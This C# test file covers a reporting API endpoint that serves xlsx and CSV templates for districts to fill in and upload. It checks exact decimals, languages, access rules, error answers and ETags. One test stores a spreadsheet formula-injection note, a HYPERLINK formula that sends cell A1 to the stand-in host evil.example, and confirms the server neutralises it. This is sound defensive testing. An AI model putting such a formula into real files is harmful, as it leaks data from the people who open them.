using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Indicators.Tests.Support;
using static Indicators.Tests.Support.Reporting;

namespace Indicators.Tests.Features.ReportingStatus.Template;

public sealed class TemplateTestsOnSqlite(SqliteApi api) : TemplateTests(api), IClassFixture<SqliteApi>;

public sealed class TemplateTestsOnSqlServer(SqlServerApi api) : TemplateTests(api), IClassFixture<SqlServerApi>;

/// <summary>
/// SPEC "Spreadsheets · Template": <c>GET /api/v1/reporting-status/template</c> answers one reporter's report as an xlsx
/// (or CSV) to fill in — a row per expected value, current values exact, names in the requested language, the status
/// offered as a list — and the file, filled in and uploaded as it is, completes the report. Each test has a province of
/// its own (TMn) with a quarterly schedule: districts TMn-A and TMn-B report TMn_X, TMn_Y and TMn_Z for themselves, the
/// department TMn-D the province-level TMn_X.
/// </summary>
public abstract class TemplateTests(ApiFixture api)
{
    private const string XlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    private static readonly string[] Header = ["indicator", "indicatorName", "orgUnit", "period", "unit", "value", "status", "note"];
    private static readonly string[] Letters = ["A", "B", "C", "D", "E", "F", "G", "H"];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    /// <summary>The province, its schedule TMn_Q (quarterly, calendar cut-off, 10 days) and a submitter key of TMn-A.</summary>
    private async Task<string> ProvinceWithScheduleAsync(string code)
    {
        await ProvinceAsync(api, code);
        // Four decimals: a figure of 18 significant digits, more than a spreadsheet's number cell holds.
        await IndicatorAsync(api, code + "_Z", null, decimals: 4);
        await ScheduleAsync(api, code + "_Q", Schedule("quarter", "calendar", 10, [code + "_X", code + "_Y", code + "_Z"], [code + "-A", code + "-B", code + "-D"]));
        api.Clock.Set(Vietnam(2024, 4, 2, 9));
        return await KeyAsync(api, code + "-A", "submitter");
    }

    private static object Item(string indicator, string orgUnit, string period, decimal value, string status, string? note = null) =>
        new { indicator, orgUnit, period, value, status, note };

    private async Task SubmitAsync(params object[] values)
    {
        var response = await api.Client("admin").PostAsync("/api/v1/submissions", Http.Json(JsonSerializer.Serialize(new { values })), Ct);
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync(Ct));
    }

    private Task<HttpResponseMessage> GetAsync(string key, string query, Action<HttpRequestHeaders>? headers = null)
    {
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/reporting-status/template?" + query);
        headers?.Invoke(request.Headers);
        return api.Client(key).SendAsync(request, Ct);
    }

    /// <summary>The template's bytes (200 asserted, with its type and file name).</summary>
    private async Task<byte[]> DownloadAsync(string key, string query, string mediaType, string fileName, Action<HttpRequestHeaders>? headers = null)
    {
        var response = await GetAsync(key, query, headers);
        Assert.True(response.StatusCode == HttpStatusCode.OK, await response.Content.ReadAsStringAsync(Ct));
        Assert.Equal(mediaType, response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal(fileName, response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        return await response.Content.ReadAsByteArrayAsync(Ct);
    }

    private async Task<JsonElement> UploadAsync(string key, byte[] body, string contentType, int received, int created, int updated, int unchanged)
    {
        var content = new ByteArrayContent(body);
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        var response = await api.Client(key).PostAsync("/api/v1/submissions", content, Ct);
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync(Ct));
        var receipt = await response.JsonAsync();
        Assert.Equal((received, created, updated, unchanged),
            (receipt.GetProperty("received").GetInt32(), receipt.GetProperty("created").GetInt32(),
             receipt.GetProperty("updated").GetInt32(), receipt.GetProperty("unchanged").GetInt32()));
        return receipt;
    }

    /// <summary>A row's cells A to H as text (a missing cell as null).</summary>
    private static string?[] Texts(Dictionary<string, TemplateSheets.StoredCell> row) =>
        Letters.Select(l => row.TryGetValue(l, out var c) ? c.Text : null).ToArray();

    [Fact]
    public async Task The_xlsx_has_a_row_per_expected_value_with_current_values_exact_a_status_list_and_names_in_the_requested_language()
    {
        var key = await ProvinceWithScheduleAsync("TM1");
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
        await SubmitAsync(
            Item("TM1_X", "TM1-A", "2024-Q1", 1235.6m, "estimate", hyperlink),
            Item("TM1_Z", "TM1-A", "2024-Q1", 99_999_999_999_999.9999m, "official"),
            // Another period and another district: not in this template.
            Item("TM1_Y", "TM1-A", "2024-Q2", 1m, "estimate"), Item("TM1_Y", "TM1-B", "2024-Q1", 2m, "estimate"));

        var xlsx = await DownloadAsync(key, "schedule=TM1_Q&period=2024-Q1&orgUnit=TM1-A", XlsxType, "template-TM1_Q-2024-Q1-TM1-A.xlsx");
        var rows = TemplateSheets.Read(xlsx);
        Assert.Equal([1u, 2u, 3u, 4u], rows.Keys);
        Assert.Equal(Header, Texts(rows[1]));
        Assert.Equal(["TM1_X", "Chỉ tiêu TM1_X", "TM1-A", "2024-Q1", "tỷ đồng", "1235.6", "estimate", hyperlink], Texts(rows[2]));
        Assert.Equal(["TM1_Y", "Chỉ tiêu TM1_Y", "TM1-A", "2024-Q1", "tỷ đồng", null, null, null], Texts(rows[3]));
        Assert.Equal(["TM1_Z", "Chỉ tiêu TM1_Z", "TM1-A", "2024-Q1", "tỷ đồng", "99999999999999.9999", "official", null], Texts(rows[4]));
        // 1235.6 is a number cell; a figure of 18 significant digits is text, which the sheet reader reads exactly (a number
        // cell would hold a double, 1E+14); the formula-like note is a string cell in the quote-prefix style, never evaluated.
        Assert.Null(rows[2]["F"].Type);
        Assert.Equal("inlineStr", rows[4]["F"].Type);
        Assert.Equal(("inlineStr", 2u), (rows[2]["H"].Type, rows[2]["H"].Style));
        Assert.Equal([("G2:G4", "\"estimate,preliminary,official\"")], TemplateSheets.ListValidations(xlsx));

        // English by lang=en, and by Accept-Language.
        var english = TemplateSheets.Read(await DownloadAsync(key, "schedule=TM1_Q&period=2024-Q1&orgUnit=TM1-A&lang=en", XlsxType, "template-TM1_Q-2024-Q1-TM1-A.xlsx"));
        Assert.Equal(["TM1_X", "Indicator TM1_X", "TM1-A", "2024-Q1", "billion VND", "1235.6", "estimate", hyperlink], Texts(english[2]));
        var accepted = TemplateSheets.Read(await DownloadAsync(key, "schedule=TM1_Q&period=2024-Q1&orgUnit=TM1-A", XlsxType, "template-TM1_Q-2024-Q1-TM1-A.xlsx",
            h => h.AcceptLanguage.ParseAdd("en-GB,en;q=0.9")));
        Assert.Equal("Indicator TM1_Z", accepted[4]["B"].Text);

        // The department's report: the province-level figure of the one indicator it is responsible for. A period written as
        // months is the same quarter.
        var department = TemplateSheets.Read(await DownloadAsync(await KeyAsync(api, "TM1-D", "submitter"), "schedule=TM1_Q&period=2024-M01..M03&orgUnit=TM1-D",
            XlsxType, "template-TM1_Q-2024-Q1-TM1-D.xlsx"));
        Assert.Equal([1u, 2u], department.Keys);
        Assert.Equal(["TM1_X", "Chỉ tiêu TM1_X", "TM1", "2024-Q1", "tỷ đồng", null, null, null], Texts(department[2]));
        Assert.Equal([("G2:G2", "\"estimate,preliminary,official\"")], TemplateSheets.ListValidations(await DownloadAsync("admin",
            "schedule=TM1_Q&period=2024-Q1&orgUnit=TM1-D", XlsxType, "template-TM1_Q-2024-Q1-TM1-D.xlsx")));
    }

    [Fact]
    public async Task The_CSV_has_the_same_rows_with_exact_decimals_and_formula_like_notes_neutralised()
    {
        var key = await ProvinceWithScheduleAsync("TM2");
        await SubmitAsync(
            Item("TM2_X", "TM2-A", "2024-Q1", -0.5m, "preliminary", "-5 so với kế hoạch; \"ước\""),
            Item("TM2_Z", "TM2-A", "2024-Q1", 12_345_678_901_234.5678m, "official"));

        foreach (var (query, headers) in new (string, Action<HttpRequestHeaders>?)[]
                 {
                     ("schedule=TM2_Q&period=2024-Q1&orgUnit=TM2-A&format=csv", null),
                     ("schedule=TM2_Q&period=2024-Q1&orgUnit=TM2-A", h => h.Accept.ParseAdd("text/csv")),
                 })
        {
            var csv = CsvText.Parse(Encoding.UTF8.GetString(await DownloadAsync(key, query, "text/csv", "template-TM2_Q-2024-Q1-TM2-A.csv", headers)));
            Assert.Equal(4, csv.Count);
            Assert.Equal(Header, csv[0]);
            Assert.Equal(["TM2_X", "Chỉ tiêu TM2_X", "TM2-A", "2024-Q1", "tỷ đồng", "-0.5", "preliminary", "'-5 so với kế hoạch; \"ước\""], csv[1]);
            Assert.Equal(["TM2_Y", "Chỉ tiêu TM2_Y", "TM2-A", "2024-Q1", "tỷ đồng", "", "", ""], csv[2]);
            Assert.Equal(["TM2_Z", "Chỉ tiêu TM2_Z", "TM2-A", "2024-Q1", "tỷ đồng", "12345678901234.5678", "official", ""], csv[3]);
        }
        var english = CsvText.Parse(Encoding.UTF8.GetString(await DownloadAsync(key, "schedule=TM2_Q&period=2024-Q1&orgUnit=TM2-A&format=csv&lang=en",
            "text/csv", "template-TM2_Q-2024-Q1-TM2-A.csv")));
        Assert.Equal(["TM2_Y", "Indicator TM2_Y", "TM2-A", "2024-Q1", "billion VND", "", "", ""], english[2]);
    }

    [Fact]
    public async Task An_xlsx_template_filled_in_part_by_part_and_uploaded_as_it_is_completes_the_report()
    {
        var key = await ProvinceWithScheduleAsync("TM3");
        await SubmitAsync(Item("TM3_X", "TM3-A", "2024-Q1", 5m, "estimate", "-5 so với kế hoạch"));
        const string query = "schedule=TM3_Q&period=2024-Q1&orgUnit=TM3-A";
        const string file = "template-TM3_Q-2024-Q1-TM3-A.xlsx";

        // Today the district has one more figure: it fills in that row and leaves the last one blank.
        api.Clock.Set(Vietnam(2024, 4, 5, 10));
        var filled = TemplateSheets.Fill(await DownloadAsync(key, query, XlsxType, file), ("F3", 42.5m), ("G3", "preliminary"));
        await UploadAsync(key, filled, XlsxType, received: 2, created: 1, updated: 0, unchanged: 1);
        var row = Row(await StatusAsync(api, "schedule=TM3_Q&period=2024-Q1&orgUnit=TM3-A"), "TM3-A");
        Assert.Equal((3, 2, false), (row.GetProperty("expected").GetInt32(), row.GetProperty("received").GetInt32(), row.GetProperty("complete").GetBoolean()));
        Assert.Equal("""[{"indicator":"TM3_Z","orgUnit":"TM3-A"}]""", row.GetProperty("missing").GetRawText());

        // Two days later, the template again — now with the figure sent — and the last row, a figure a number cell cannot hold.
        api.Clock.Set(Vietnam(2024, 4, 7, 16));
        var again = await DownloadAsync(key, query, XlsxType, file);
        Assert.Equal(["TM3_Y", "Chỉ tiêu TM3_Y", "TM3-A", "2024-Q1", "tỷ đồng", "42.5", "preliminary", null], Texts(TemplateSheets.Read(again)[3]));
        var complete = TemplateSheets.Fill(again, ("F4", "99999999999999.9999"), ("G4", "official"), ("H4", "số liệu chính thức"));
        await UploadAsync(key, complete, XlsxType, received: 3, created: 1, updated: 0, unchanged: 2);

        var status = await StatusAsync(api, "schedule=TM3_Q&period=2024-Q1");
        row = Row(status, "TM3-A");
        Assert.Equal((3, 3, true, "on-time"), (row.GetProperty("expected").GetInt32(), row.GetProperty("received").GetInt32(),
            row.GetProperty("complete").GetBoolean(), row.GetProperty("timeliness").GetString()));
        Assert.Equal(Vietnam(2024, 4, 7, 16), row.GetProperty("completedAt").GetDateTimeOffset());
        Assert.Equal(99_999_999_999_999.9999m, await CurrentValueAsync(api, "TM3_Z", "TM3-A", "2024-Q1"));
        Assert.Equal(5m, await CurrentValueAsync(api, "TM3_X", "TM3-A", "2024-Q1"));

        // The complete template uploaded unchanged changes nothing: every row unchanged, no revision.
        var before = await api.SnapshotAsync();
        await UploadAsync(key, await DownloadAsync(key, query, XlsxType, file), XlsxType, received: 3, created: 0, updated: 0, unchanged: 3);
        var after = await api.SnapshotAsync();
        Assert.Equal(before["actual_revisions"], after["actual_revisions"]);
        Assert.Equal(before["actual_values"], after["actual_values"]);
    }

    [Fact]
    public async Task A_CSV_template_filled_in_with_a_text_editor_and_uploaded_as_it_is_completes_the_report()
    {
        var key = await ProvinceWithScheduleAsync("TM4");
        const string note = "=1+2 là ghi chú, không phải công thức";
        await SubmitAsync(Item("TM4_X", "TM4-A", "2024-Q1", 5m, "estimate", note));
        const string query = "schedule=TM4_Q&period=2024-Q1&orgUnit=TM4-A&format=csv";
        const string file = "template-TM4_Q-2024-Q1-TM4-A.csv";

        // Unchanged first: the neutralised note ('=1+2 …) reads back as it was stored, so nothing changes.
        var csv = await DownloadAsync(key, query, "text/csv", file);
        await UploadAsync(key, csv, "text/csv", received: 1, created: 0, updated: 0, unchanged: 1);

        // Filled in as sed would: the empty value, status and note at the end of the two blank rows.
        var text = Encoding.UTF8.GetString(csv)
            .Replace("TM4_Y,Chỉ tiêu TM4_Y,TM4-A,2024-Q1,tỷ đồng,,,", "TM4_Y,Chỉ tiêu TM4_Y,TM4-A,2024-Q1,tỷ đồng,7.5,estimate,", StringComparison.Ordinal)
            .Replace("TM4_Z,Chỉ tiêu TM4_Z,TM4-A,2024-Q1,tỷ đồng,,,", "TM4_Z,Chỉ tiêu TM4_Z,TM4-A,2024-Q1,tỷ đồng,0.0001,official,sơ bộ", StringComparison.Ordinal);
        Assert.DoesNotContain(",,,", text);
        await UploadAsync(key, Encoding.UTF8.GetBytes(text), "text/csv", received: 3, created: 2, updated: 0, unchanged: 1);

        var row = Row(await StatusAsync(api, "schedule=TM4_Q&period=2024-Q1&orgUnit=TM4-A"), "TM4-A");
        Assert.True(row.GetProperty("complete").GetBoolean(), row.GetRawText());
        Assert.Equal(0.0001m, await CurrentValueAsync(api, "TM4_Z", "TM4-A", "2024-Q1"));
        var values = await (await api.Client("reader").GetAsync("/api/v1/values?indicator=TM4_X&orgUnit=TM4-A&period=2024-Q1", Ct)).JsonAsync();
        Assert.Equal(note, values.GetProperty("items")[0].GetProperty("note").GetString());

        // Downloaded again, complete, and sent back unchanged: nothing changes.
        await UploadAsync(key, await DownloadAsync(key, query, "text/csv", file), "text/csv", received: 3, created: 0, updated: 0, unchanged: 3);
    }

    [Fact]
    public async Task Only_the_reporters_own_submitters_and_admins_get_the_template()
    {
        const string query = "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1&orgUnit=";
        var before = await api.SnapshotAsync();

        // Sơn Dương's report of the seeded schedule: eight rows, its three figures from the source document filled in.
        var own = TemplateSheets.Read(await DownloadAsync("sd", query + "TQ-SD", XlsxType, "template-SOCIO_ECONOMIC_HALF_YEAR-2020-S1-TQ-SD.xlsx"));
        Assert.Equal(9, own.Count);
        var stored = (await (await api.Client("reader").GetAsync("/api/v1/values?orgUnit=TQ-SD&period=2020-S1", Ct)).JsonAsync())
            .GetProperty("items").EnumerateArray()
            .ToDictionary(i => i.GetProperty("indicator").GetString()!, i => (i.GetProperty("value").GetRawText(), i.GetProperty("status").GetString()));
        Assert.Equal(3, stored.Count);
        foreach (var row in own.Values.Skip(1))
        {
            Assert.Equal(stored.TryGetValue(row["A"].Text, out var s) ? s : (null, null),
                (row.GetValueOrDefault("F")?.Text, row.GetValueOrDefault("G")?.Text));
        }
        Assert.Equal(9, TemplateSheets.Read(await DownloadAsync("admin", query + "TQ-SD", XlsxType, "template-SOCIO_ECONOMIC_HALF_YEAR-2020-S1-TQ-SD.xlsx")).Count);
        // The Department of Industry and Trade's: the province-level figures of its three indicators; by bearer token too.
        var department = TemplateSheets.Read(await DownloadAsync("sct", query + "TQ-SCT", XlsxType, "template-SOCIO_ECONOMIC_HALF_YEAR-2020-S1-TQ-SCT.xlsx"));
        Assert.Equal(["TQ", "TQ", "TQ"], department.Values.Skip(1).Select(r => r["C"].Text));
        var byToken = await api.TokenClient("sd").GetAsync("/api/v1/reporting-status/template?" + query + "TQ-SD", Ct);
        Assert.Equal(HttpStatusCode.OK, byToken.StatusCode);

        // Another district's submitter, a department's for a district, a reader (its role may not use the endpoint): 403.
        foreach (var (caller, unit) in new[] { ("hy", "TQ-SD"), ("sct", "TQ-SD"), ("sd", "TQ-SCT"), ("stc", "TQ-SCT") })
        {
            var problem = await (await GetAsync(caller, query + unit)).AssertProblemAsync(HttpStatusCode.Forbidden);
            Assert.Equal("urn:indicators:problem:forbidden", problem.GetProperty("type").GetString());
            Assert.Equal($"The template of the report of {unit} is for the submitters of {unit} and admins.", problem.GetProperty("detail").GetString());
        }
        await (await GetAsync("reader", query + "TQ-SD")).AssertProblemAsync(HttpStatusCode.Forbidden);
        await (await api.TokenClient("hy").GetAsync("/api/v1/reporting-status/template?" + query + "TQ-SD", Ct)).AssertProblemAsync(HttpStatusCode.Forbidden);
        await (await api.Client().GetAsync("/api/v1/reporting-status/template?" + query + "TQ-SD", Ct)).AssertProblemAsync(HttpStatusCode.Unauthorized);
        Assert.Equal(before, await api.SnapshotAsync());
    }

    [Theory]
    [InlineData("sd", "", 400, "schedule", "period", "orgUnit")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1", 400, "orgUnit")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1&orgUnit=", 400, "orgUnit")]
    [InlineData("sd", "schedule=NOPE&period=2020-S1&orgUnit=TQ-SD", 400, "schedule")]
    [InlineData("sd", "schedule=socio_economic_half_year&period=2020-S1&orgUnit=TQ-SD", 400, "schedule")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-Q1&orgUnit=TQ-SD", 400, "period")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2021-S1&orgUnit=TQ-SD", 400, "period")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S3&orgUnit=TQ-SD", 400, "period")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1&orgUnit=TQ-SD,TQ-HY", 400, "orgUnit")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1&orgUnit=tq-sd", 400, "orgUnit")]
    [InlineData("admin", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1&orgUnit=TQ-NOPE", 400, "orgUnit")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1&orgUnit=TQ-SD&format=json", 400, "format")]
    [InlineData("sd", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1&orgUnit=TQ-SD&lang=fr", 400, "lang")]
    // 400 before 403: another district's submitter with a bad period learns what is wrong with the request first.
    [InlineData("hy", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-Q1&orgUnit=TQ-SD", 400, "period")]
    // A unit of the catalogue with no report on the schedule: the province itself (asked by an admin, who may read any template).
    [InlineData("admin", "schedule=SOCIO_ECONOMIC_HALF_YEAR&period=2020-S1&orgUnit=TQ", 404)]
    public async Task Bad_requests_are_answered_with_problems_naming_the_parameter(string caller, string query, int status, params string[] keys)
    {
        var before = await api.SnapshotAsync();
        var problem = await (await GetAsync(caller, query)).AssertProblemAsync((HttpStatusCode)status, keys);
        if (status == 404)
        {
            Assert.Equal("TQ has no report on SOCIO_ECONOMIC_HALF_YEAR for 2020-S1: it is not a reporter of the schedule, or not valid during the period, or has nothing to send.",
                problem.GetProperty("detail").GetString());
        }
        if (query.Contains("2020-Q1", StringComparison.Ordinal))
        {
            Assert.Contains("is a half schedule", problem.GetProperty("errors").GetProperty("period")[0].GetString());
        }
        Assert.Equal(before, await api.SnapshotAsync());
    }

    [Fact]
    public async Task A_reporter_not_expected_for_the_period_has_no_template()
    {
        await ProvinceWithScheduleAsync("TM5");
        // A district that exists only from May: no report for the first quarter, one for the second.
        await Given.OrgUnitAsync(api, "TM5-NEW", "district", "TM5", "Huyện Mới", "New District", validFrom: "2024-05-01");
        await ScheduleAsync(api, "TM5_Q2", Schedule("quarter", "calendar", 10, ["TM5_X"], ["TM5-NEW", "TM5-A"]));
        var key = await KeyAsync(api, "TM5-NEW", "submitter");
        var problem = await (await GetAsync(key, "schedule=TM5_Q2&period=2024-Q1&orgUnit=TM5-NEW")).AssertProblemAsync(HttpStatusCode.NotFound);
        Assert.StartsWith("TM5-NEW has no report on TM5_Q2 for 2024-Q1", problem.GetProperty("detail").GetString());
        // Not a reporter of this schedule at all.
        await (await GetAsync("admin", "schedule=TM5_Q2&period=2024-Q1&orgUnit=TM5-B")).AssertProblemAsync(HttpStatusCode.NotFound);
        Assert.Equal(2, TemplateSheets.Read(await DownloadAsync(key, "schedule=TM5_Q2&period=2024-Q2&orgUnit=TM5-NEW", XlsxType, "template-TM5_Q2-2024-Q2-TM5-NEW.xlsx")).Count);
    }

    [Fact]
    public async Task The_template_has_an_ETag_answers_304_while_unchanged_and_a_new_tag_once_a_value_changes()
    {
        var key = await ProvinceWithScheduleAsync("TM6");
        const string url = "/api/v1/reporting-status/template?schedule=TM6_Q&period=2024-Q1&orgUnit=TM6-A";
        var first = await api.Client(key).GetAsync(url, Ct);
        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        var tag = first.Headers.ETag;
        Assert.NotNull(tag);
        Assert.False(tag.IsWeak);
        var bytes = await first.Content.ReadAsByteArrayAsync(Ct);
        Assert.Equal(bytes.Length, (int)first.Content.Headers.ContentLength!.Value);

        var second = await api.Client(key).GetAsync(url, Ct);
        Assert.Equal(tag, second.Headers.ETag);
        Assert.Equal(bytes, await second.Content.ReadAsByteArrayAsync(Ct));

        var conditional = new HttpRequestMessage(HttpMethod.Get, url);
        conditional.Headers.IfNoneMatch.Add(tag);
        var notModified = await api.Client(key).SendAsync(conditional, Ct);
        Assert.Equal(HttpStatusCode.NotModified, notModified.StatusCode);
        Assert.Empty(await notModified.Content.ReadAsByteArrayAsync(Ct));
        Assert.Null(notModified.Content.Headers.ContentDisposition);

        // The CSV is another representation with its own tag.
        var csv = await api.Client(key).GetAsync(url + "&format=csv", Ct);
        Assert.NotEqual(tag, csv.Headers.ETag);

        await SubmitAsync(Item("TM6_Y", "TM6-A", "2024-Q1", 3m, "estimate"));
        var changed = new HttpRequestMessage(HttpMethod.Get, url);
        changed.Headers.IfNoneMatch.Add(tag);
        var fresh = await api.Client(key).SendAsync(changed, Ct);
        Assert.Equal(HttpStatusCode.OK, fresh.StatusCode);
        Assert.NotEqual(tag, fresh.Headers.ETag);
        Assert.Equal("3", TemplateSheets.Read(await fresh.Content.ReadAsByteArrayAsync(Ct))[3]["F"].Text);
    }
}
